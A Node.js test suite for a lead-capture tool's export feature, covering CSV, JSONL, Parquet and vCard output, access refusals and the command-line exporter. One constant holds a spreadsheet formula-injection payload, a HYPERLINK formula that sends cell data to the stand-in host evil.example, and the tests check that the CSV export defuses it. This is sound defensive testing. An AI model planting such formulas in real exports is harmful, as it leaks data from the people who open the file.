// Leads as files, read back by programs that are not ours: DuckDB, Python's csv, and Radicale.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { fileURLToPath } from "node:url";
import { admin, batch, item, post } from "./client.mjs";
import { python, serve } from "./python.mjs";
import { config, RUNTIMES, start, TOKEN } from "./runtime.mjs";

const CLI = fileURLToPath(new URL("../../pkg/cli/main.js", import.meta.url));
const HOSTILE = `=HYPERLINK("https://evil.example?x="&A1,"Hi; you")\r\n@two, "three"`;
const LEADS = 230;

const LEADKIT = config();
LEADKIT.forms.contact.fields.push(
  { name: "pieces", type: "number" },
  { name: "tel", type: "phone", country: "DE" },
  { name: "gift", type: "checkbox" },
);
LEADKIT.destinations = {};

const data = (n) => ({
  full_name: `Ada Löwe ${n}`,
  email: `ada${n}@example.com`,
  message: n === 0 ? HOSTILE : `Note ${n}`,
  size: n % 2 === 0 ? ["s", "m"] : ["s"],
  pieces: n === 1 ? "-7" : String(n),
  tel: "030 901820",
  gift: n % 3 === 0,
  ok: true,
});

let folder;
before(() => {
  folder = mkdtempSync(join(tmpdir(), "leadkit-"));
});
after(() => rmSync(folder, { recursive: true, force: true }));

/** Stores the leads, and one of another form. */
async function fill(url) {
  for (let first = 0; first < LEADS; first += 50) {
    const count = Math.min(50, LEADS - first);
    const items = Array.from({ length: count }, (_, n) => item(data(first + n)));
    const { body } = await post(url, batch(items));
    assert.ok(body.r.every(({ s }) => s === "ok"));
  }
  const { body } = await post(url, batch([item({ email: "b@example.com" }, { form: "booking" })]));
  assert.equal(body.r[0].s, "ok");
}

const get = (url, query) => fetch(`${url}/v1/admin/export?${query}`, { headers: { authorization: `Bearer ${TOKEN}` } });

async function save(url, query, name) {
  const response = await get(url, query);
  assert.equal(response.status, 200);
  const path = join(folder, name);
  writeFileSync(path, Buffer.from(await response.arrayBuffer()));
  return path;
}

const READ_CSV = `
import csv, json, sys
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f: rows = list(csv.DictReader(f, delimiter=sys.argv[2], strict=True))
print(json.dumps(rows))`;

const QUERY = `
import duckdb, json, sys
c = duckdb.connect(); c.execute("SET TimeZone='UTC'")
print(json.dumps([list(r) for r in c.execute(sys.argv[1]).fetchall()], default=str))`;

for (const runtime of RUNTIMES) {
  describe(runtime, () => {
    let edge;
    before(async () => {
      edge = await start(runtime, { config: LEADKIT, objects: 3 });
      await fill(edge.url);
    });
    after(() => edge?.stop());

    test("a table for spreadsheets holds every lead once, and no formula", async () => {
      const response = await get(edge.url, "format=csv&site=shop");
      assert.equal(response.headers.get("content-type"), "text/csv; charset=utf-8; header=present");
      assert.match(response.headers.get("content-disposition"), /^attachment; filename="shop-\d{8}\.csv"$/);
      const path = await save(edge.url, "format=csv&site=shop", `${runtime}.csv`);
      const rows = await python(READ_CSV, path, ",");
      assert.equal(rows.length, LEADS + 1);
      assert.equal(new Set(rows.map(({ id }) => id)).size, LEADS + 1);
      const hostile = rows.find((row) => row["values.email"] === "ada0@example.com");
      assert.ok(hostile["values.message"].startsWith(`'=HYPERLINK("https://evil.example`), hostile["values.message"]);
      const numbers = new Set(["values.pieces", "score.fit"]);
      for (const row of rows) {
        for (const [name, cell] of Object.entries(row)) {
          assert.ok(numbers.has(name) || !/^[=+\-@\t\r]/.test(cell), `${name}: ${cell}`);
        }
      }
      const one = rows.find((row) => row["values.email"] === "ada1@example.com");
      assert.equal(one["values.pieces"], "-7");
      assert.equal(one["contact.last_name"], "1");
      assert.equal(one["contact.phone"], "'+4930901820");
      assert.equal(one["consent.contact"], "true");
      assert.equal(one["score.fit"], "5");
    });

    test("the separator, the mark and the filters are as asked", async () => {
      const path = await save(edge.url, "separator=semicolon&bom=1&form=booking", `${runtime}-excel.csv`);
      assert.deepEqual([...readFileSync(path).subarray(0, 6)], [0xef, 0xbb, 0xbf, ...Buffer.from("id;")]);
      const rows = await python(READ_CSV, path, ";");
      assert.deepEqual(
        rows.map((row) => [row.form, row["values.email"], "values.full_name" in row]),
        [["booking", "b@example.com", false]],
      );
      const lines = async (query) =>
        (await (await get(edge.url, `format=jsonl&${query}`)).text()).split("\n").length - 1;
      assert.equal(await lines("since=2999-01-01"), 0);
      assert.equal(await lines("since=2020-01-01T00:00:00Z"), LEADS + 1);
      assert.equal(await lines("until=2020-01-01"), 0);
      assert.equal(await lines("disposition=spam"), 0);
      assert.equal(await lines("form=boo%25"), 0);
    });

    test("lines are the leads as the Inbox shows them", async () => {
      const text = await (await get(edge.url, "format=jsonl")).text();
      const leads = text
        .trimEnd()
        .split("\n")
        .map((line) => JSON.parse(line));
      assert.equal(leads.length, LEADS + 1);
      const hostile = leads.find(({ values }) => values.email === "ada0@example.com");
      assert.ok(hostile.values.message.startsWith("=HYPERLINK"));
      const { body } = await admin(edge.url, `leads/shop/${hostile.id}`);
      for (const key of ["values", "verdict", "consent", "received_at", "form", "receipt", "facts"]) {
        assert.deepEqual(hostile[key], body[key], key);
      }
    });

    test("DuckDB reads the types and the rows of Parquet", async () => {
      const path = await save(edge.url, "format=parquet", `${runtime}.parquet`);
      const types = Object.fromEntries(
        (await python(QUERY, `DESCRIBE SELECT * FROM '${path}'`)).map(([name, type]) => [name, type]),
      );
      for (const [name, type] of [
        ["id", "VARCHAR"],
        ["received_at", "TIMESTAMP WITH TIME ZONE"],
        ["score.fit", "INTEGER"],
        ["values.pieces", "DOUBLE"],
        ["values.gift", "BOOLEAN"],
        ["consent.newsletter", "BOOLEAN"],
        ["other", "VARCHAR"],
      ]) {
        assert.equal(types[name], type, name);
      }
      const sum = await python(
        QUERY,
        `SELECT count(*), count(DISTINCT id), sum("values.pieces"), count(*) FILTER ("values.gift"), min(received_at) > now() - INTERVAL 1 HOUR, max(length("values.message")) FROM '${path}'`,
      );
      const pieces = (LEADS * (LEADS - 1)) / 2 - 8;
      const stored = HOSTILE.replaceAll("\r\n", "\n").length;
      assert.deepEqual(sum, [[LEADS + 1, LEADS + 1, pieces, Math.ceil(LEADS / 3), true, stored]]);
      const none = await save(edge.url, "format=parquet&since=2999-01-01", `${runtime}-none.parquet`);
      assert.deepEqual(await python(QUERY, `SELECT count(*) FROM '${none}'`), [[0]]);
    });

    test("who may not read leads gets no file, and nonsense is refused before the first byte", async () => {
      assert.equal((await fetch(`${edge.url}/v1/admin/export`)).status, 401);
      for (const query of ["format=exe", "since=yesterday", "separator=x", "until=2026-02-31T99:00Z"]) {
        assert.equal((await get(edge.url, query)).status, 400, query);
      }
      assert.equal((await get(edge.url, "site=other")).status, 404);
      const head = await fetch(`${edge.url}/v1/admin/export`, {
        method: "POST",
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      assert.equal(head.status, 405);
    });
  });
}

test("Radicale takes every card, and gives it back", async () => {
  const edge = await start("node", { config: LEADKIT });
  const own = join(folder, "radicale");
  mkdirSync(own);
  const dav = await serve((port) => [
    ...["-m", "radicale", "--server-hosts", `127.0.0.1:${port}`, "--auth-type", "none"],
    ...["--storage-filesystem-folder", own, "--logging-level", "error"],
  ]);
  try {
    await post(edge.url, batch([item(data(0)), item(data(2)), item({ email: "bare@example.com", ok: true })]));
    const text = await (await get(edge.url, "format=vcard")).text();
    const cards = text.split(/(?=BEGIN:VCARD\r\n)/);
    assert.equal(cards.length, 3);
    const book = `${dav.url}/crm/leads/`;
    const props = `<?xml version="1.0"?><mkcol xmlns="DAV:" xmlns:c="urn:ietf:params:xml:ns:carddav"><set><prop><resourcetype><collection/><c:addressbook/></resourcetype></prop></set></mkcol>`;
    const authorization = `Basic ${btoa("crm:")}`;
    const dialogue = (method, path, body, type) =>
      fetch(`${book}${path}`, { method, body, headers: { authorization, "content-type": type ?? "text/vcard" } });
    assert.equal((await dialogue("MKCOL", "", props, "application/xml")).status, 201);
    for (const [n, card] of cards.entries()) {
      const id = /UID:urn:uuid:(\S+)/.exec(card)[1];
      assert.equal((await dialogue("PUT", `${id}.vcf`, card)).status, 201, `card ${n}`);
      // The same card again replaces itself.
      assert.ok((await dialogue("PUT", `${id}.vcf`, card)).ok);
      const back = (await (await dialogue("GET", `${id}.vcf`)).text()).replaceAll("\r\n ", "");
      for (const line of card.replaceAll("\r\n ", "").trimEnd().split("\r\n")) {
        if (line.startsWith("N:") || line.startsWith("ADR:")) continue;
        assert.ok(back.includes(line), `${line} in ${back}`);
      }
    }
    assert.equal((await dialogue("PUT", "broken.vcf", "BEGIN:VCARD\r\nnonsense")).status, 400);
  } finally {
    await dav.stop();
    await edge.stop();
  }
});

/** Runs the command line. */
function leadkit(args, env = {}) {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], { env: { PATH: process.env.PATH, ...env } });
    let [out, err] = ["", ""];
    child.stdout.on("data", (chunk) => (out += chunk));
    child.stderr.on("data", (chunk) => (err += chunk));
    child.once("close", (code) => resolve({ code, out, err }));
  });
}

test("the command line writes the same file from a database and from an edge, and over nothing", async () => {
  const home = mkdtempSync(join(folder, "cli-"));
  const edge = await start("node", { config: LEADKIT, folder: home, objects: 2 });
  try {
    await fill(edge.url);
    const local = ["--config", join(home, "leadkit.json"), "--db", join(home, "leads.db")];
    const remote = ["--url", edge.url];
    const env = { LEADKIT_ADMIN_TOKEN: TOKEN };
    const sorted = (text) => text.split("\n").toSorted();
    const [a, b] = [
      await leadkit(["export", "--format", "jsonl", ...local]),
      await leadkit(["export", "--format", "jsonl", ...remote], env),
    ];
    assert.equal(a.code + b.code, 0, a.err + b.err);
    assert.equal(sorted(a.out).length, LEADS + 2);
    assert.deepEqual(sorted(a.out), sorted(b.out));
    const out = join(home, "leads.parquet");
    assert.equal((await leadkit(["export", "--format", "parquet", "--out", out, ...local])).code, 0);
    assert.equal(statSync(out).mode & 0o777, 0o600);
    assert.deepEqual(await python(QUERY, `SELECT count(*) FROM '${out}'`), [[LEADS + 1]]);
    const again = await leadkit(["export", "--out", out, ...local]);
    assert.equal(again.code, 2);
    assert.match(again.err, /is there already/);
    for (const [args, said] of [
      [["--format", "exe", ...local], /format.*member_invalid/],
      [["--site", "nowhere", ...local], /site_unknown/],
      [["--db", join(home, "none.db"), "--config", join(home, "leadkit.json")], /no such file/],
      [remote, /LEADKIT_ADMIN_TOKEN/],
    ]) {
      const refused = await leadkit(["export", ...args]);
      assert.equal(refused.code, 2);
      assert.match(refused.err, said);
    }
  } finally {
    await edge.stop();
  }
});

test("a piece is made when it is read, and one that fails breaks the file off", async () => {
  const { streamOf } = await import("../../pkg/edge/stream.js");
  const asked = [];
  const reader = streamOf({ state: 0, columns: null }, async (state) => {
    asked.push(state);
    if (state === 4) throw new Error("no");
    // Pages of which nothing fits are passed over.
    return { piece: state % 2 === 1 ? `${state}\n` : "", next: state + 1 };
  }).getReader();
  const text = async () => new TextDecoder().decode((await reader.read()).value);
  assert.deepEqual(asked, []);
  assert.equal(await text(), "1\n");
  assert.deepEqual(asked, [0, 1]);
  assert.equal(await text(), "3\n");
  await assert.rejects(reader.read(), /no/);
});
